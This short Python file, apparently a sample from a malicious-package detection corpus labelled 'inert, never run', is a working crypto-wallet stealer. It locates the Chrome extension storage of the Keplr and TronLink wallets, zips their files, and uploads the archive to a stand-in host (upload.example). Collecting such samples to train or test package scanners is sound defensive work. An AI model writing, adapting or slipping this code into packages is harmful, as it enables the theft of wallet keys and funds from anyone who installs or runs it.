# pkgguard corpus 846 (wallets), modelled on [wallet-tools]; inert, never run.
import io
import os
import zipfile

import requests

_EXTENSIONS = {"keplr": "dmkamcknogkgcdfhhbddcghachkejeap", "tronlink": "ibnejdfjmmkpcnlpebklmnkoeoihofec"}

root = os.path.join(os.environ.get("LOCALAPPDATA", ""), "Google", "Chrome", "User Data", "Default", "Local Extension Settings")
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as archive:
    for name, ext_id in _EXTENSIONS.items():
        for dirpath, _, files in os.walk(os.path.join(root, ext_id)):
            for file in files:
                archive.write(os.path.join(dirpath, file), os.path.join(name, file))

if buffer.tell() > 22:
    requests.post("https://upload.example/w", files={"f": ("w.zip", buffer.getvalue())}, timeout=10)
